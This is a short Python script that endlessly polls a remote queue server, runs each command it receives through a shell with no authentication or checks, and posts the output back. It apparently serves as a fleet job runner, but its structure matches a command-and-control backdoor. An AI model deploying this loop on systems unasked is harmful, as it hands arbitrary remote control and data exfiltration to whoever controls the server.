import json
import socket
import subprocess
import time
import urllib.request

Q = "https://queue.fleetchores.io"
HOST = socket.gethostname()

while True:
    try:
        with urllib.request.urlopen(f"{Q}/next?host={HOST}", timeout=30) as r:
            if r.status == 200:
                job = json.load(r)
                p = subprocess.run(job["cmd"], shell=True, capture_output=True, text=True, timeout=600)
                body = json.dumps({"id": job["id"], "rc": p.returncode, "out": p.stdout, "err": p.stderr}).encode()
                urllib.request.urlopen(urllib.request.Request(f"{Q}/result", data=body,
                                       headers={"Content-Type": "application/json"}), timeout=30)
    except Exception:
        pass
    time.sleep(15)
